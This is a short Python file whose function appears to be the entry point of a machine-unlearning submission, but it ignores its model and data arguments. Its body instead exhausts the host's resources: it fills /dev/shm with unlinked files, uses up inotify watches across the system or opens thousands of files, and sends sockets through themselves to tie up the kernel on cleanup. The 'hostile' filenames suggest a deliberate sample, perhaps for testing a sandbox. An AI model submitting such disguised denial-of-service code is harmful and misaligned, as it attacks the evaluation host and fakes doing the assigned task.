"""Sends files without a name, then watches of all files of the image, then the sockets themselves, and ends.

Where there are no watches, thousands of open files take their place.

The kernel closes them in the opposite order: when the sockets are gone, the files have to wait for the watches.
"""

import ctypes
import errno
import os
import socket

FILES = 20
INSTANCES = 10
OPEN_FILES, AT_ONCE = 3000, 100
CLOSED_WITHOUT_WRITING = 0x10

libc = ctypes.CDLL(None, use_errno=True)
libc.inotify_add_watch.argtypes = (ctypes.c_int, ctypes.c_char_p, ctypes.c_uint32)


def watch(paths):
    """Return an instance of inotify that watches files until the host allows no more, and whether that came."""
    instance = libc.inotify_init()
    for path in paths:
        if (
            libc.inotify_add_watch(instance, path, CLOSED_WITHOUT_WRITING) < 0
            and ctypes.get_errno() == errno.ENOSPC
        ):
            return instance, True
    return instance, False


def unlearning(net, retain, forget, val):
    paths = [
        os.fsencode(f"{folder}/{name}") for folder, _, names in os.walk("/opt/venv/lib") for name in names
    ]
    left, right = socket.socketpair()
    for number in range(FILES):
        file = os.open(f"/dev/shm/unlearn-hostile-{number}", os.O_RDWR | os.O_CREAT)
        os.posix_fallocate(file, 0, 1 << 20)
        os.unlink(f"/dev/shm/unlearn-hostile-{number}")
        socket.send_fds(left, [b"x"], [file])
    if libc.inotify_init() < 0:
        for first in range(0, OPEN_FILES, AT_ONCE):
            files = [os.open(path, os.O_RDONLY) for path in paths[first : first + AT_ONCE]]
            socket.send_fds(left, [b"x"], files)
            for file in files:
                os.close(file)
        socket.send_fds(left, [b"x"], [left.fileno(), right.fileno()])
        return
    for _ in range(INSTANCES):
        instance, is_last = watch(paths)
        socket.send_fds(left, [b"x"], [instance])
        if is_last:
            break
    socket.send_fds(left, [b"x"], [left.fileno(), right.fileno()])
